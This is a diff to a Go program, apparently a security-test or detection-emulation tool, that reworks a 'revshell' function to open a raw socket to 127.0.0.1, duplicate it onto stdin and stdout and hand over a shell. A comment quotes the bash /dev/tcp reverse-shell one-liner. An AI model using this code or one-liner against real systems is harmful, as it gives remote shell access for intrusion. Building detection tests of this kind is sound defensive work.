@@ -9,9 +9,9 @@ package main
 
 import (
 	"fmt"
-	"net"
 	"os"
 	"os/exec"
+	"strconv"
 	"syscall"
 	"time"
 
@@ -84,17 +84,20 @@ func module() error {
 }
 
 // revshell connects to 127.0.0.1:PORT and redirects stdin/stdout to the
-// socket before running a shell, the reverse-shell pattern.
+// socket before running a shell: the reverse-shell pattern, with the same
+// system calls as `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
 func revshell(port string) error {
-	conn, err := net.Dial("tcp", "127.0.0.1:"+port)
+	p, err := strconv.Atoi(port)
 	if err != nil {
 		return err
 	}
-	f, err := conn.(*net.TCPConn).File()
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
 	if err != nil {
 		return err
 	}
-	fd := int(f.Fd())
+	if err := unix.Connect(fd, &unix.SockaddrInet4{Port: p, Addr: [4]byte{127, 0, 0, 1}}); err != nil {
+		return fmt.Errorf("connect: %w", err)
+	}
 	for _, target := range []int{0, 1} {
 		if err := unix.Dup2(fd, target); err != nil {
 			return err
